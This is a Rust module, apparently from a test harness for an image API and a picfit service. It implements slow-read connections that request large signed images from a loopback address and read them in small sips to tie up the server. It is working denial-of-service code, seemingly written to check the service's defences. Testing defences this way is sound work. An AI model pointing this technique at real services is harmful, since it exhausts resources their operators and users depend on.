//! Slow readers: connections from the attacker's address that ask for a large image, a
//! new size each time so that no two share a cached buffer, and then read its answer at
//! about 64 KiB every 10 s through a small receive buffer, so the service holds the rest.
//! Each is a raw TCP connection (bound to 127.0.0.2, with `SO_RCVBUF` set before it
//! connects). The image is picfit's `/display` of a 5000-wide PNG (signed) where picfit
//! is on, else the signed URL the API redirects `/id/{id}/5000/{h}.jpg` to: Picsum's
//! largest JPEGs are under 1 MiB, which the kernel's send buffer takes whole (on loopback
//! it grows to 4 MiB), so they cost the service nothing to hold.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::attacker::{ADDRESS, Aim, Kind, picfit_signed};

/// Bytes read in one go.
const SIP: usize = 64 << 10;
/// The pause between two sips.
const PAUSE: Duration = Duration::from_secs(10);
/// The receive buffer asked for (the kernel doubles it).
const RCVBUF: u32 = 4 << 10;

/// What the slow readers did.
#[derive(Debug, Default)]
pub struct Trickle {
    /// Connections that got an answer's head.
    pub opened: AtomicU64,
    /// Answers read to their end.
    pub finished: AtomicU64,
    /// Connections closed by the service (or reset) before the answer's end.
    pub cut: AtomicU64,
    /// Body bytes read in all.
    pub bytes: AtomicU64,
}

/// Starts `connections` slow readers, each opening a new connection when its last one ends.
///
/// # Errors
/// When the HTTP client cannot be built.
pub fn start(
    aim: &Aim,
    connections: usize,
    trickle: &Arc<Trickle>,
) -> anyhow::Result<Vec<tokio::task::JoinHandle<()>>> {
    let http = super::http::client(ADDRESS, Duration::from_secs(30), false)?;
    Ok((0..connections)
        .map(|_| {
            let (aim, http, trickle) = (aim.clone(), http.clone(), Arc::clone(trickle));
            tokio::spawn(async move {
                while !aim.stop.load(Ordering::Relaxed) {
                    if !one(&aim, &http, &trickle).await {
                        tokio::time::sleep(Duration::from_millis(500)).await;
                    }
                }
            })
        })
        .collect())
}

/// One slow connection; false when it got no image to read.
async fn one(aim: &Aim, http: &reqwest::Client, trickle: &Trickle) -> bool {
    let n = aim.next();
    aim.send(Kind::Slow);
    let aimed = if aim.picfit {
        display(aim, n)
    } else {
        let url = format!("{}/id/{}/5000/{}.jpg", aim.api, aim.id(), 1000 + n % 4000);
        signed(aim, http, &url).await
    };
    let Some((addr, target)) = aimed else {
        return false;
    };
    let Ok(mut stream) = connect(addr).await else {
        aim.record(Kind::Slow, 0, false);
        return false;
    };
    let request = format!("GET {target} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n");
    if stream.write_all(request.as_bytes()).await.is_err() {
        aim.record(Kind::Slow, 0, false);
        return false;
    }
    let Some(head) = head(&mut stream).await else {
        aim.record(Kind::Slow, 0, false);
        return false;
    };
    aim.record(Kind::Slow, head.status, head.retry_after);
    if head.status != 200 {
        return false;
    }
    trickle.opened.fetch_add(1, Ordering::Relaxed);
    trickle.bytes.fetch_add(head.body, Ordering::Relaxed);
    let left = head.length.map(|l| l.saturating_sub(head.body));
    sip_until_done(aim, &mut stream, trickle, left).await;
    true
}

/// The signed image URL the API redirects to, as an address and a request target; the
/// API's refusal is recorded.
async fn signed(aim: &Aim, http: &reqwest::Client, url: &str) -> Option<(SocketAddr, String)> {
    let Ok(res) = http.get(url).send().await else {
        aim.record(Kind::Slow, 0, false);
        return None;
    };
    let status = res.status().as_u16();
    let location = res
        .headers()
        .get(reqwest::header::LOCATION)
        .and_then(|l| l.to_str().ok())
        .and_then(|l| reqwest::Url::parse(l).ok());
    let Some(location) = location.filter(|_| status == 302) else {
        let retry_after = res.headers().contains_key(reqwest::header::RETRY_AFTER);
        aim.record(Kind::Slow, status, retry_after);
        return None;
    };
    let addr = location.socket_addrs(|| None).ok()?.into_iter().next()?;
    let target = match location.query() {
        Some(q) => format!("{}?{q}", location.path()),
        None => location.path().to_owned(),
    };
    Some((addr, target))
}

/// picfit's `/display` of a large PNG on the image service, as an address and a request
/// target.
fn display(aim: &Aim, n: u64) -> Option<(SocketAddr, String)> {
    let (id, h) = (aim.id(), 3000 + n % 2000);
    let query = picfit_signed(&format!("fmt=png&h={h}&op=resize&path={id}.jpg&w=5000"));
    let base = reqwest::Url::parse(&aim.images).ok()?;
    let addr = base.socket_addrs(|| None).ok()?.into_iter().next()?;
    Some((addr, format!("/display?{query}")))
}

/// A connection from the attacker's address with a small receive buffer.
async fn connect(addr: SocketAddr) -> std::io::Result<tokio::net::TcpStream> {
    let socket = tokio::net::TcpSocket::new_v4()?;
    socket.set_recv_buffer_size(RCVBUF)?;
    socket.bind(SocketAddr::new(ADDRESS, 0))?;
    socket.connect(addr).await
}

/// An answer's head.
struct Head {
    status: u16,
    retry_after: bool,
    /// `Content-Length`, when given.
    length: Option<u64>,
    /// Body bytes read with the head.
    body: u64,
}

/// Reads the answer's head.
async fn head(stream: &mut tokio::net::TcpStream) -> Option<Head> {
    let mut buf = Vec::new();
    let mut chunk = [0u8; 4096];
    let end = loop {
        let n = stream.read(&mut chunk).await.ok()?;
        if n == 0 {
            return None;
        }
        buf.extend_from_slice(chunk.get(..n).unwrap_or_default());
        if let Some(end) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
            break end;
        }
        if buf.len() > 64 << 10 {
            return None;
        }
    };
    let text = String::from_utf8_lossy(buf.get(..end).unwrap_or_default()).to_ascii_lowercase();
    let status = text.split_whitespace().nth(1)?.parse().ok()?;
    let header = |name: &str| {
        text.lines()
            .find_map(|l| l.strip_prefix(name))
            .map(str::trim)
    };
    Some(Head {
        status,
        retry_after: header("retry-after:").is_some(),
        length: header("content-length:").and_then(|v| v.parse().ok()),
        body: (buf.len() - end - 4) as u64,
    })
}

/// Reads [`SIP`] bytes every [`PAUSE`] until the answer ends (`left` more bytes, or the
/// end of the stream when not known), the connection is cut, or the attack stops.
async fn sip_until_done(
    aim: &Aim,
    stream: &mut tokio::net::TcpStream,
    trickle: &Trickle,
    mut left: Option<u64>,
) {
    let mut buf = vec![0u8; SIP];
    loop {
        let mut sipped = 0;
        while sipped < SIP {
            if left == Some(0) {
                trickle.finished.fetch_add(1, Ordering::Relaxed);
                return;
            }
            let Some(room) = buf.get_mut(sipped..) else {
                break;
            };
            match stream.read(room).await {
                Ok(0) if left.is_none() => {
                    trickle.finished.fetch_add(1, Ordering::Relaxed);
                    return;
                }
                Ok(n) if n > 0 => {
                    sipped += n;
                    left = left.map(|l| l.saturating_sub(n as u64));
                    trickle.bytes.fetch_add(n as u64, Ordering::Relaxed);
                }
                _ => {
                    trickle.cut.fetch_add(1, Ordering::Relaxed);
                    return;
                }
            }
        }
        for _ in 0..PAUSE.as_secs() {
            if aim.stop.load(Ordering::Relaxed) {
                return;
            }
            tokio::time::sleep(Duration::from_secs(1)).await;
        }
    }
}

impl Trickle {
    /// Connections opened, answers finished, connections cut, bytes read.
    pub fn figures(&self) -> (u64, u64, u64, u64) {
        (
            self.opened.load(Ordering::Relaxed),
            self.finished.load(Ordering::Relaxed),
            self.cut.load(Ordering::Relaxed),
            self.bytes.load(Ordering::Relaxed),
        )
    }
}
